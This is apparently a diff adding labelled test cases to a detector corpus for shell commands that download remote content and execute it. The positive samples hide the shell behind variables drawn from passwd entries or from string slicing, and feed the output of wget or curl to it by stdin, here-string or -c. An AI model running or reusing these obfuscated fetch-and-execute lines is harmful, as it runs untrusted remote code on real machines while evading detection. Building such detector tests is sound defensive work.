@@ -437,3 +437,17 @@ wget -qO /tmp/h.deb https://dl.example.net/h.deb; dpkg-deb -x /tmp/h.deb /tmp/h;
 unzip release.zip -d /tmp/r; /tmp/r/install.sh
 #@ neg a download unpacked by unzip -d, then read
 wget -qO /tmp/d.zip https://dl.example.net/d.zip; unzip /tmp/d.zip -d /tmp/d; cat /tmp/d/README
+#@ pos a download fed on stdin to a program that does not fold
+IFS=: read -r _ _ _ _ _ _ login < <(getent passwd "$(id -un)")
+"$login" -s < <(wget -qO- https://updates.example.com/u.txt)
+#@ pos a download in a here-string to a program that does not fold
+runner=$(getent passwd root | cut -d: -f7)
+"$runner" <<<"$(curl -fsSL https://updates.example.com/run.txt)"
+#@ pos a download as -c's string to a program that does not fold
+run=$(tail -c 3 <<<fish)
+"$run" -c "$(wget -qO- https://mirror.example.org/tweaks)"
+#@ neg a download fed to a JSON tool named by a variable, with a filter
+JQ=${JQ:-jq}
+"$JQ" -r '.tag_name' < <(curl -fsSL https://api.example.com/latest)
+#@ neg a program that does not fold given a local file's text
+"$run" -c "$(cat ./local.conf)"
